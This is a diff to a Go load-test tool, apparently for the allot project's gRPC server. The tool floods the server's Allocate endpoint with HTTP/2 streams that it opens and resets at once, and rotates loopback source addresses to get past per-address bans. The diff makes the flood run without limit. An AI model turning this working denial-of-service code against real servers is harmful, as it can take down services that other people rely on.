@@ -3,7 +3,6 @@ package main
 import (
 	"bytes"
 	"context"
-	"fmt"
 	"io"
 	"net"
 	"time"
@@ -14,44 +13,36 @@ import (
 	allotv1 "github.com/allot-engine/allot/api/allot/v1"
 )
 
-// attack opens calls and resets them at once, as fast as the server takes them, until there were as many as wanted, and returns how many
-// were written. When a connection is closed the next comes from another address, as those of many attackers do, since the server keeps
-// out the address of one that it expelled. Only Linux has more loopback addresses than one without being told to.
-func attack(ctx context.Context, address string, wanted int) int {
-	sent := 0
-	for host := 1; sent < wanted && ctx.Err() == nil; host++ {
-		from := fmt.Sprintf("127.%d.%d.%d:0", 1+host>>16&63, host>>8&255, max(1, host&255))
-		local, err := net.ResolveTCPAddr("tcp", from)
-		if err != nil {
-			panic("overload: " + err.Error())
-		}
-		d := net.Dialer{Timeout: time.Second, LocalAddr: local}
+// attack opens calls and resets them at once, as fast as the server takes them, until the context ends. When a connection is closed the
+// next comes from another address, as those of many attackers do, since the server keeps out the address of one that it expelled. Only
+// Linux has more loopback addresses than one without being told to.
+func attack(ctx context.Context, address string) {
+	for host := 0; ctx.Err() == nil; host++ {
+		d := net.Dialer{Timeout: time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, byte(1+host>>16&63), byte(host>>8), byte(host))}}
 		c, err := d.DialContext(ctx, "tcp", address)
 		if err != nil {
 			continue
 		}
 		stop := context.AfterFunc(ctx, func() { _ = c.Close() })
 		go func() { _, _ = io.Copy(io.Discard, c) }() // so that the server's answers do not hold it up; ends with the connection
-		sent += resets(c, wanted-sent)
+		resets(c)
 		stop()
 		_ = c.Close() // the server may have closed it already
 	}
-	return sent
 }
 
 // resetsTogether are written at once.
 const resetsTogether = 100
 
-// resets opens and resets calls on a connection until it breaks, and returns how many were written.
-func resets(c net.Conn, wanted int) int {
+// resets opens and resets calls on a connection until it breaks.
+func resets(c net.Conn) {
 	var block, out bytes.Buffer
 	out.WriteString(http2.ClientPreface)
 	f := http2.NewFramer(&out, nil)
 	_ = f.WriteSettings() // a buffer takes everything
 	e := hpack.NewEncoder(&block)
-	sent := 0
-	for id := uint32(1); sent < wanted; {
-		for range min(resetsTogether, wanted-sent) {
+	for id := uint32(1); ; {
+		for range resetsTogether {
 			block.Reset()
 			for _, h := range [][2]string{
 				{":method", "POST"}, {":scheme", "http"}, {":path", allotv1.AllocationService_Allocate_FullMethodName}, {":authority", "x"},
@@ -65,10 +56,8 @@ func resets(c net.Conn, wanted int) int {
 		}
 		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
 		if _, err := c.Write(out.Bytes()); err != nil {
-			return sent
+			return
 		}
-		sent += min(resetsTogether, wanted-sent)
 		out.Reset()
 	}
-	return sent
 }
